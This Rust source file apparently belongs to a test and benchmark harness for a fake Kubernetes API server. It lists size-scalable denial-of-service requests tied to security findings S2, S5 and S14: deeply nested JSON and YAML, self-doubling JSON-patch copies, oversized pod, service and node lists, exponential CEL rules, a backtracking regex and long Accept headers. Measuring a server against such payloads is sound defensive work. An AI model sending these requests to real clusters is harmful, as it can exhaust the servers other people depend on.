//! Attacks: requests that would cost a server more than their size, each as a function of a size, so that tests send
//! a small one and a benchmark two, one twice as large as the other.
//!
//! Independent of the expected responses.

use std::fmt::Write as _;

use fake_apiserver::api::HttpRequest;
use http::{HeaderMap, HeaderValue, Method};

mod bodies;
pub mod paths;
mod world;

pub use bodies::protobuf_definition;
pub use world::{Received, World};

/// A request that is too expensive, and its preconditions.
#[derive(Debug, Clone, Copy)]
pub struct Attack {
    /// Name.
    pub name: &'static str,
    /// Id of the finding (`S5`).
    pub finding: &'static str,
    /// The size in the finding, or the largest size for which the object can be stored.
    pub size: usize,
    /// Requests to send first, by size.
    pub before: fn(usize) -> Vec<HttpRequest>,
    /// The request itself, by size.
    pub request: fn(usize) -> HttpRequest,
}

/// All attacks, in the order of the findings.
pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "protobuf schema within schemas",
        finding: "S2",
        size: 10_000,
        before: nothing,
        request: |size| protobuf_definition(size),
    },
    Attack {
        name: "JSON within lists",
        finding: "S2",
        size: 10_000,
        before: |_| vec![definition(OPEN)],
        request: |size| widget_with(&format!("{}{}", "[".repeat(size), "]".repeat(size))),
    },
    Attack {
        name: "YAML within lists",
        finding: "S2",
        size: 10_000,
        before: |_| vec![definition(OPEN)],
        request: |size| {
            let mut request = widget_with(&format!("{}{}", "[".repeat(size), "]".repeat(size)));
            content_type(&mut request, "application/yaml");
            request
        },
    },
    Attack {
        name: "object copied into its own leaf",
        finding: "S2",
        size: 9,
        before: |_| vec![definition(OPEN), widget_with("{}")],
        request: copies_into_itself,
    },
    Attack {
        name: "object copied into itself",
        finding: "S2",
        size: 20,
        before: |_| {
            vec![
                definition(OPEN),
                widget_with(&format!("{{\"a\":\"{}\"}}", "x".repeat(2000))),
            ]
        },
        request: copies_of_all,
    },
    Attack {
        name: "items that are given defaults",
        finding: "S2",
        size: 100_000,
        before: |_| {
            let default = "x".repeat(100_000);
            vec![definition(&format!(
                "{{\"type\":\"object\",\"properties\":{{\"spec\":{{\"type\":\"array\",\"items\":{{\"type\":\"object\",\
                 \"properties\":{{\"a\":{{\"type\":\"string\",\"default\":\"{default}\"}}}}}}}}}}}}"
            ))]
        },
        request: |size| widget_with(&format!("[{}]", listed(size, |_| "{}".to_owned()))),
    },
    Attack {
        name: "column of filters within filters",
        finding: "S2",
        size: 10_000,
        before: |size| {
            vec![
                definition_with_column(&format!(".a{}", "[?(@".repeat(size))),
                widget_with("{}"),
            ]
        },
        request: |_| table(),
    },
    Attack {
        name: "containers of a pod",
        finding: "S5",
        size: 5000,
        before: accounts,
        request: |size| pod(&format!("\"containers\":[{}]", containers(size))),
    },
    Attack {
        name: "init containers beside containers",
        finding: "S5",
        size: 2500,
        before: accounts,
        request: |size| {
            let init = containers(size).replace("\"c", "\"i");
            pod(&format!(
                "\"containers\":[{}],\"initContainers\":[{init}]",
                containers(size)
            ))
        },
    },
    Attack {
        name: "volumes and mounts of a pod",
        finding: "S5",
        size: 8000,
        before: accounts,
        request: mounts,
    },
    Attack {
        name: "ports of a service",
        finding: "S5",
        size: 11_000,
        before: nothing,
        request: |size| service("NodePort", size),
    },
    Attack {
        name: "taints of a node",
        finding: "S5",
        size: 20_000,
        before: nothing,
        request: |size| {
            let taints = listed(size, |nth| {
                format!("{{\"key\":\"k{nth}\",\"effect\":\"NoSchedule\"}}")
            });
            let node = format!("{{\"metadata\":{{\"name\":\"n\"}},\"spec\":{{\"taints\":[{taints}]}}}}");
            post("/api/v1/nodes", node)
        },
    },
    Attack {
        name: "faults of one object",
        finding: "S5",
        size: 20_000,
        before: nothing,
        request: owners,
    },
    Attack {
        name: "inserts before a long list",
        finding: "S5",
        size: 10_000,
        before: |size| {
            let items = vec!["0"; size * 50].join(",");
            vec![definition(OPEN), widget_with(&format!("{{\"l\":[{items}]}}"))]
        },
        request: |size| {
            let operation = "{\"op\":\"add\",\"path\":\"/spec/l/0\",\"value\":1}";
            json_patch(vec![operation; size].join(","))
        },
    },
    Attack {
        name: "patterns of a definition",
        finding: "S5",
        size: 200,
        before: nothing,
        request: |size| {
            let patterns = listed(size, |nth| {
                format!("\"p{nth}\":{{\"type\":\"string\",\"pattern\":\"\\\\w{{150}}\"}}")
            });
            definition(&format!(
                "{{\"type\":\"object\",\"properties\":{{\"spec\":{{\"type\":\"object\",\"properties\":{{{patterns}}}}}}}}}"
            ))
        },
    },
    Attack {
        name: "versions of a definition",
        finding: "S5",
        size: 5000,
        before: nothing,
        request: |size| definition_with_versions(size),
    },
    Attack {
        name: "column of descents",
        finding: "S5",
        size: 10,
        before: |size| {
            let deep = (0..20).fold("1".to_owned(), |below, _| {
                format!("{{\"a\":{below},\"b\":[1,2]}}")
            });
            vec![
                definition_with_column(&format!(".spec{}.none", "..*".repeat(size))),
                widget_with(&deep),
            ]
        },
        request: |_| table(),
    },
    Attack {
        name: "clauses of Accept",
        finding: "S5",
        size: 124_000,
        before: nothing,
        request: |size| {
            let mut request = get("/api/v1/configmaps");
            let clauses = "a/b,".repeat(size / 4);
            header(
                &mut request,
                "accept",
                &format!("{clauses}application/json;q=0.1"),
            );
            request
        },
    },
    Attack {
        name: "items merged by their key",
        finding: "S5",
        size: 4000,
        before: |size| {
            let mut sent = accounts(size);
            sent.push(deployment(size));
            sent
        },
        request: |size| {
            let mut request = deployment(size);
            request.method = Method::PATCH;
            request.path = format!("{DEPLOYMENTS}/d");
            content_type(&mut request, "application/strategic-merge-patch+json");
            request
        },
    },
    Attack {
        name: "items applied and dropped",
        finding: "S5",
        size: 4000,
        before: |size| vec![applied(size)],
        request: |_| applied(1),
    },
    Attack {
        name: "managers of an object",
        finding: "S5",
        size: 8000,
        before: nothing,
        request: |size| {
            let owners = listed(size, |nth| {
                format!(
                    "{{\"manager\":\"m{nth}\",\"operation\":\"Update\",\"apiVersion\":\"v1\",\"fieldsType\":\"FieldsV1\",\
                     \"fieldsV1\":{{\"f:data\":{{\"f:k{nth}\":{{}}}}}}}}"
                )
            });
            post(
                CONFIG_MAPS,
                format!("{{\"metadata\":{{\"name\":\"m\",\"managedFields\":[{owners}]}}}}"),
            )
        },
    },
    Attack {
        name: "items of a list that is a map",
        finding: "S5",
        size: 20_000,
        before: |_| vec![definition(LIST_MAP)],
        request: |size| {
            let items = listed(size, |nth| format!("{{\"name\":\"n{nth}\"}}"));
            widget_with(&format!("{{\"l\":[{items}]}}"))
        },
    },
    Attack {
        name: "finalizers that stay",
        finding: "S5",
        size: 40_000,
        before: |size| vec![finalized(size)],
        request: |_| {
            config_patch(
                "merge-patch",
                "{\"metadata\":{\"annotations\":{\"a\":\"b\"}}}".to_owned(),
            )
        },
    },
    Attack {
        name: "nulls of a strategic merge patch",
        finding: "S5",
        size: 40_000,
        before: |size| {
            let data = listed(size, |nth| format!("\"k{nth}\":\"v\""));
            vec![post(
                CONFIG_MAPS,
                format!("{{\"metadata\":{{\"name\":\"o\"}},\"data\":{{{data}}}}}"),
            )]
        },
        request: |size| {
            let nulls = listed(size, |nth| format!("\"k{nth}\":null"));
            config_patch("strategic-merge-patch", format!("{{\"data\":{{{nulls}}}}}"))
        },
    },
    Attack {
        name: "sysctls of a pod",
        finding: "S5",
        size: 50_000,
        before: accounts,
        request: |size| {
            let sysctls = listed(size, |nth| {
                format!("{{\"name\":\"kernel.a{nth}\",\"value\":\"1\"}}")
            });
            pod(&format!(
                "\"securityContext\":{{\"sysctls\":[{sysctls}]}},\"containers\":[{}]",
                containers(1)
            ))
        },
    },
    Attack {
        name: "conditions of a pod",
        finding: "S5",
        size: 10_000,
        before: |size| {
            let mut sent = accounts(size);
            sent.push(pod(&format!("\"containers\":[{}]", containers(1))));
            sent.push(conditions(size, "True"));
            sent
        },
        request: |size| conditions(size, "False"),
    },
    Attack {
        name: "rule for each item",
        finding: "S5",
        size: 400_000,
        before: |_| vec![definition(RULE_OF_ITEMS)],
        request: |size| widget_with(&format!("{{\"l\":[{}]}}", listed(size, |_| "1".to_owned()))),
    },
    Attack {
        name: "rule with bytes that double",
        finding: "S5",
        size: 30,
        before: |size| {
            let loops = ".map(a, a + a)".repeat(size);
            vec![ruled(&format!("[b'0123456789abcdef']{loops}.size() == 1"))]
        },
        request: |_| widget_with("{}"),
    },
    Attack {
        name: "rule with lists that double",
        finding: "S5",
        size: 30,
        before: |size| {
            let loops = ".map(a, a + a)".repeat(size);
            vec![ruled(&format!("[[1]]{loops}.size() == 1"))]
        },
        request: |_| widget_with("{}"),
    },
    Attack {
        name: "rule with membership in loops",
        finding: "S5",
        size: 3000,
        before: |_| vec![ruled("self.l.all(x, self.l.all(y, x in self.l))")],
        request: long_list,
    },
    Attack {
        name: "rule with texts that grow",
        finding: "S5",
        size: 3000,
        before: |_| vec![ruled("self.l.map(x, self.s + x).size() > 0")],
        request: long_list,
    },
    Attack {
        name: "rule with texts that are searched",
        finding: "S5",
        size: 3000,
        before: |_| vec![ruled("self.l.all(x, self.s.matches('(x+x+)+' + x) || true)")],
        request: long_list,
    },
    Attack {
        name: "definition with large patterns",
        finding: "S5",
        size: 1000,
        before: nothing,
        request: |size| {
            let rules = listed(size, |nth| {
                format!("{{\"rule\":\"self.s.matches('\\\\\\\\pL{{1,20}}{nth}')\"}}")
            });
            definition(&schema_with(&rules))
        },
    },
    Attack {
        name: "fields nobody knows",
        finding: "S14",
        size: 15_000,
        before: nothing,
        request: |size| {
            let fields = listed(size, |nth| format!("\"x{nth}\":1"));
            post(
                CONFIG_MAPS,
                format!("{{\"metadata\":{{\"name\":\"u\"}},{fields}}}"),
            )
        },
    },
];

/// Returns the attack of this name.
///
/// # Panics
/// If there is none.
pub fn attack(name: &str) -> &'static Attack {
    let found = ATTACKS.iter().find(|attack| attack.name == name);
    found.expect("tests name attacks there are")
}

const CONFIG_MAPS: &str = "/api/v1/namespaces/default/configmaps";
const DEPLOYMENTS: &str = "/apis/apps/v1/namespaces/default/deployments";
const WIDGETS: &str = "/apis/attack.example.com/v1/namespaces/default/widgets";

/// A schema that accepts any object.
const OPEN: &str = "{\"type\":\"object\",\"x-kubernetes-preserve-unknown-fields\":true}";

const LIST_MAP: &str = "{\"type\":\"object\",\"properties\":{\"spec\":{\"type\":\"object\",\"properties\":{\"l\":\
    {\"type\":\"array\",\"x-kubernetes-list-type\":\"map\",\"x-kubernetes-list-map-keys\":[\"name\"],\
    \"items\":{\"type\":\"object\",\"required\":[\"name\"],\"properties\":{\"name\":{\"type\":\"string\"}}}}}}}}";

/// A list of integers, each of which has a rule.
const RULE_OF_ITEMS: &str = "{\"type\":\"object\",\"properties\":{\"spec\":{\"type\":\"object\",\"properties\":{\"l\":\
    {\"type\":\"array\",\"items\":{\"type\":\"integer\",\"x-kubernetes-validations\":[{\"rule\":\"true\"}]}}}}}}";

/// A schema of a list `l` and a text `s` with these rules.
fn schema_with(rules: &str) -> String {
    format!(
        "{{\"type\":\"object\",\"properties\":{{\"spec\":{{\"type\":\"object\",\"properties\":{{\"l\":{{\"type\":\"array\",\
         \"items\":{{\"type\":\"string\"}}}},\"s\":{{\"type\":\"string\"}}}},\"x-kubernetes-validations\":[{rules}]}}}}}}"
    )
}

/// A definition with this rule.
fn ruled(rule: &str) -> HttpRequest {
    definition(&schema_with(&format!("{{\"rule\":\"{rule}\"}}")))
}

/// An object with a list of this length and a text of 1 MB.
fn long_list(size: usize) -> HttpRequest {
    let items = listed(size, |nth| format!("\"item{nth}\""));
    widget_with(&format!(
        "{{\"l\":[{items}],\"s\":\"{}\"}}",
        "x".repeat(1_000_000)
    ))
}

/// An object with many finalizers.
fn finalized(size: usize) -> HttpRequest {
    let names = listed(size, |nth| format!("\"a.b/f{nth}\""));
    post(
        CONFIG_MAPS,
        format!("{{\"metadata\":{{\"name\":\"o\",\"finalizers\":[{names}]}}}}"),
    )
}

fn config_patch(kind: &str, body: String) -> HttpRequest {
    let mut request = post(&format!("{CONFIG_MAPS}/o"), body);
    request.method = Method::PATCH;
    content_type(&mut request, &format!("application/{kind}+json"));
    request
}

/// Conditions of a pod in reverse order: each is looked up.
fn conditions(size: usize, status: &str) -> HttpRequest {
    let conditions = listed(size, |nth| {
        let nth = if status == "True" { nth } else { size - nth };
        format!("{{\"type\":\"a.b/c{nth}\",\"status\":\"{status}\"}}")
    });
    let mut request = post(
        "/api/v1/namespaces/default/pods/p/status",
        format!("{{\"status\":{{\"conditions\":[{conditions}]}}}}"),
    );
    request.method = Method::PATCH;
    content_type(&mut request, "application/merge-patch+json");
    request
}

fn nothing(_: usize) -> Vec<HttpRequest> {
    Vec::new()
}

/// Pods without a service account are rejected.
fn accounts(_: usize) -> Vec<HttpRequest> {
    vec![post(
        "/api/v1/namespaces/default/serviceaccounts",
        "{\"metadata\":{\"name\":\"default\"}}".to_owned(),
    )]
}

fn listed(size: usize, item: impl Fn(usize) -> String) -> String {
    (0..size).map(item).collect::<Vec<_>>().join(",")
}

/// Returns a GET request.
pub fn get(path: &str) -> HttpRequest {
    let (path, query) = path.split_once('?').unwrap_or((path, ""));
    HttpRequest {
        method: Method::GET,
        path: path.to_owned(),
        query: query.into(),
        headers: HeaderMap::new(),
        body: Vec::new().into(),
    }
}

fn post(path: &str, body: String) -> HttpRequest {
    let mut request = get(path);
    request.method = Method::POST;
    request.body = body.into();
    content_type(&mut request, "application/json");
    request
}

fn header(request: &mut HttpRequest, name: &'static str, value: &str) {
    let value = HeaderValue::from_str(value).expect("attacks are legal headers");
    request.headers.insert(name, value);
}

fn content_type(request: &mut HttpRequest, value: &str) {
    header(request, "content-type", value);
}

fn table() -> HttpRequest {
    let mut request = get(WIDGETS);
    header(
        &mut request,
        "accept",
        "application/json;as=Table;v=v1;g=meta.k8s.io",
    );
    request
}

fn definition(schema: &str) -> HttpRequest {
    definition_of(&format!(
        "{{\"name\":\"v1\",\"served\":true,\"storage\":true,\"schema\":{{\"openAPIV3Schema\":{schema}}}}}"
    ))
}

fn definition_with_column(path: &str) -> HttpRequest {
    definition_of(&format!(
        "{{\"name\":\"v1\",\"served\":true,\"storage\":true,\"schema\":{{\"openAPIV3Schema\":{OPEN}}},\
         \"additionalPrinterColumns\":[{{\"name\":\"c\",\"type\":\"string\",\"jsonPath\":\"{path}\"}}]}}"
    ))
}

fn definition_with_versions(size: usize) -> HttpRequest {
    definition_of(&listed(size, |nth| {
        let stored = nth == 0;
        format!(
            "{{\"name\":\"v{}\",\"served\":true,\"storage\":{stored},\"schema\":{{\"openAPIV3Schema\":{OPEN}}}}}",
            nth + 1
        )
    }))
}

fn definition_of(versions: &str) -> HttpRequest {
    post(
        "/apis/apiextensions.k8s.io/v1/customresourcedefinitions",
        format!(
            "{{\"metadata\":{{\"name\":\"widgets.attack.example.com\"}},\"spec\":{{\"group\":\"attack.example.com\",\
             \"scope\":\"Namespaced\",\"names\":{{\"plural\":\"widgets\",\"kind\":\"Widget\"}},\"versions\":[{versions}]}}}}"
        ),
    )
}

fn widget_with(spec: &str) -> HttpRequest {
    post(
        WIDGETS,
        format!(
            "{{\"apiVersion\":\"attack.example.com/v1\",\"kind\":\"Widget\",\"metadata\":{{\"name\":\"w\"}},\"spec\":{spec}}}"
        ),
    )
}

fn json_patch(operations: String) -> HttpRequest {
    let mut request = post(&format!("{WIDGETS}/w"), format!("[{operations}]"));
    request.method = Method::PATCH;
    content_type(&mut request, "application/json-patch+json");
    request
}

/// Copies that double in depth.
fn copies_into_itself(size: usize) -> HttpRequest {
    let mut leaf = "/spec/x".to_owned();
    let deep = (0..60).fold("{}".to_owned(), |below, _| format!("{{\"a\":{below}}}"));
    let mut operations = format!("{{\"op\":\"add\",\"path\":\"/spec/x\",\"value\":{deep}}}");
    leaf.push_str(&"/a".repeat(60));
    for _ in 0..size {
        // Writing to a String does not fail.
        let _ = write!(
            operations,
            ",{{\"op\":\"copy\",\"from\":\"/spec/x\",\"path\":\"{leaf}/x\"}}"
        );
        leaf = format!("{leaf}/x{}", &leaf["/spec/x".len()..]);
    }
    json_patch(operations)
}

/// Copies that double in size.
fn copies_of_all(size: usize) -> HttpRequest {
    json_patch(listed(size, |nth| {
        format!("{{\"op\":\"copy\",\"from\":\"/spec\",\"path\":\"/spec/k{nth}\"}}")
    }))
}

fn containers(size: usize) -> String {
    listed(size, |nth| format!("{{\"name\":\"c{nth}\",\"image\":\"i\"}}"))
}

fn pod(spec: &str) -> HttpRequest {
    post(
        "/api/v1/namespaces/default/pods",
        format!("{{\"metadata\":{{\"name\":\"p\"}},\"spec\":{{{spec}}}}}"),
    )
}

fn mounts(size: usize) -> HttpRequest {
    let volumes = listed(size, |nth| format!("{{\"name\":\"v{nth}\"}}"));
    let mounts = listed(size, |nth| {
        format!("{{\"name\":\"v{nth}\",\"mountPath\":\"/m{nth}\"}}")
    });
    pod(&format!(
        "\"volumes\":[{volumes}],\"containers\":[{{\"name\":\"c\",\"image\":\"i\",\"volumeMounts\":[{mounts}]}}]"
    ))
}

fn service(kind: &str, size: usize) -> HttpRequest {
    let ports = listed(size, |nth| {
        format!("{{\"name\":\"p{nth}\",\"port\":{}}}", nth % 65_535 + 1)
    });
    post(
        "/api/v1/namespaces/default/services",
        format!("{{\"metadata\":{{\"name\":\"s\"}},\"spec\":{{\"type\":\"{kind}\",\"ports\":[{ports}]}}}}"),
    )
}

/// Every owner reference is invalid, and each error quotes all of them.
fn owners(size: usize) -> HttpRequest {
    let owners = listed(size, |nth| {
        format!(
            "{{\"apiVersion\":\"v1\",\"kind\":\"Pod\",\"name\":\"p{nth}\",\"uid\":\"u{nth}\",\"controller\":true}}"
        )
    });
    post(
        CONFIG_MAPS,
        format!("{{\"metadata\":{{\"name\":\"o\",\"ownerReferences\":[{owners}]}}}}"),
    )
}

fn deployment(size: usize) -> HttpRequest {
    let containers = containers(size);
    post(
        DEPLOYMENTS,
        format!(
            "{{\"metadata\":{{\"name\":\"d\"}},\"spec\":{{\"selector\":{{\"matchLabels\":{{\"a\":\"b\"}}}},\"template\":\
             {{\"metadata\":{{\"labels\":{{\"a\":\"b\"}}}},\"spec\":{{\"containers\":[{containers}]}}}}}}}}"
        ),
    )
}

fn applied(size: usize) -> HttpRequest {
    let mut request = deployment(size);
    let body = String::from_utf8_lossy(&request.body).replacen(
        '{',
        "{\"apiVersion\":\"apps/v1\",\"kind\":\"Deployment\",",
        1,
    );
    request.method = Method::PATCH;
    request.path = format!("{DEPLOYMENTS}/d");
    request.query = "fieldManager=attacker&force=true".into();
    request.body = body.into_bytes().into();
    content_type(&mut request, "application/apply-patch+yaml");
    request
}
